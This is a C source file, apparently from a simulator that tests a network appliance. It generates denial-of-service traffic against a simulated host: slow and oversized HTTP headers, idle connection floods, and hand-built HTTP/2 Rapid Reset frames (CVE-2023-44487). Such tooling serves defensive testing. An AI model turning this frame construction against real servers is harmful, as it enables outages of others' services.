/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks by requests: each connection and each byte is right, but there are too many of the one or
 * too few of the other. */
#include "attack.h"

#include "base/assert.h"
#include "frame.h"
#include "tcp/tcp_types.h"

#include <stdio.h>
#include <string.h>

#define LARGE_HEAD_BYTES 65536u
#define SEGMENT_BYTES 1400u

#define STREAMS_PER_SEGMENT 8u
/* His first bytes: the preface and SETTINGS of nothing (RFC 9113, section 3.4). */
#define H2_BEGIN "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"

size_t attack_http_begin(const struct attack *a, char *ret, size_t bytes_max)
{
    static const char rest[] = "GET /x/rest HTTP/1.1\r\nHost: www.sim.test\r\n\r\n";
    static const char begun[] = "GET /a/1 HTTP/1.1\r\nHost: www.sim.test\r\nX-More: ";
    if (a->name == ATTACK_rapid_resets) {
        ASSERT(sizeof(H2_BEGIN) - 1 <= bytes_max);
        memcpy(ret, H2_BEGIN, sizeof(H2_BEGIN) - 1);
        return sizeof(H2_BEGIN) - 1;
    }
    bool is_begun = a->name == ATTACK_slow_heads || a->name == ATTACK_large_heads;
    if (!is_begun && a->name != ATTACK_idle_crowd)
        return 0;
    int n = snprintf(ret, bytes_max, "%s", is_begun ? begun : rest);
    ASSERT(n > 0 && (size_t)n < bytes_max);
    return (size_t)n;
}

/* His TCP is as it should be; where the appliance ends, he comes again. */
void attack_http_answer(struct attack *a, struct attack_conn *c, uint8_t flags, uint32_t bytes)
{
    if ((flags & TCP_FIN) != 0) {
        attack_conn_send(a, c, TCP_RST, 0, NULL, 0);
        c->port = 0;
    } else if (bytes > 0) {
        attack_conn_send(a, c, TCP_ACK, 65535, NULL, 0);
    }
}

void attack_idle_crowd_send(struct attack *a)
{
    attack_next_conn(a);
}

void attack_slow_heads_send(struct attack *a)
{
    struct attack_conn *c = attack_next_conn(a);
    if (c != NULL)
        attack_conn_send(a, c, TCP_ACK | TCP_PSH, 65535, "a", 1);
}

/* Whatever is answered, he sends all of it. */
void attack_large_heads_send(struct attack *a)
{
    uint8_t more[SEGMENT_BYTES];
    struct attack_conn *c = attack_next_conn(a);
    if (c == NULL || c->seq - c->body >= LARGE_HEAD_BYTES)
        return;
    memset(more, 'a', sizeof(more));
    attack_conn_send(a, c, TCP_ACK | TCP_PSH, 65535, more, sizeof(more));
}

void attack_hanging_send(struct attack *a)
{
    attack_next_conn(a);
}

static uint8_t *put_frame(uint8_t *at, uint32_t bytes, uint8_t type, uint8_t flags, uint32_t stream)
{
    frame_put32(at, bytes << 8 | type);
    at[4] = flags;
    frame_put32(at + 5, stream);
    return at + 9;
}

/* A request and the reset that takes it back (RFC 9113, sections 6.2 and 6.4): CVE-2023-44487. */
static uint8_t *put_stream(const struct attack *a, uint8_t *at, uint32_t stream)
{
    char fields[128]; /* in HPACK, all of them literal but for the method and the scheme */
    char id[16], path[32];
    int id_len = snprintf(id, sizeof(id), "%u", attack_request(a));
    int path_len = snprintf(path, sizeof(path), "%s%s", sim_target_path(SIM_TARGET_group_a), id);
    int n =
        snprintf(fields, sizeof(fields), "\x82\x86\x04%c%s\x01\x0cwww.sim.test@\x08x-sim-id%c%s",
                 (char)path_len, path, (char)id_len, id);
    ASSERT(n > 0 && (size_t)n < sizeof(fields));
    *strchr(fields, '@') = '\0';                   /* a field whose name is no index */
    at = put_frame(at, (uint32_t)n, 1, 5, stream); /* HEADERS, the last, and END_STREAM */
    memcpy(at, fields, (size_t)n);
    at = put_frame(at + n, 4, 3, 0, stream); /* RST_STREAM */
    frame_put32(at, 8);                      /* CANCEL */
    return at + 4;
}

/* As many connections as he has, and again when he is told to be calm. */
void attack_rapid_resets_send(struct attack *a)
{
    uint8_t segment[SEGMENT_BYTES];
    struct attack_conn *c = attack_next_conn(a);
    if (c == NULL)
        return;
    uint8_t *at = segment;
    uint32_t bytes = (uint32_t)(put_stream(a, segment, 1) - segment);
    uint32_t number = (c->seq - c->body) / bytes;
    for (unsigned i = 0; i < STREAMS_PER_SEGMENT; i++)
        at = put_stream(a, at, 2 * (number + i) + 1);
    attack_conn_send(a, c, TCP_ACK | TCP_PSH, 65535, segment, (size_t)(at - segment));
}
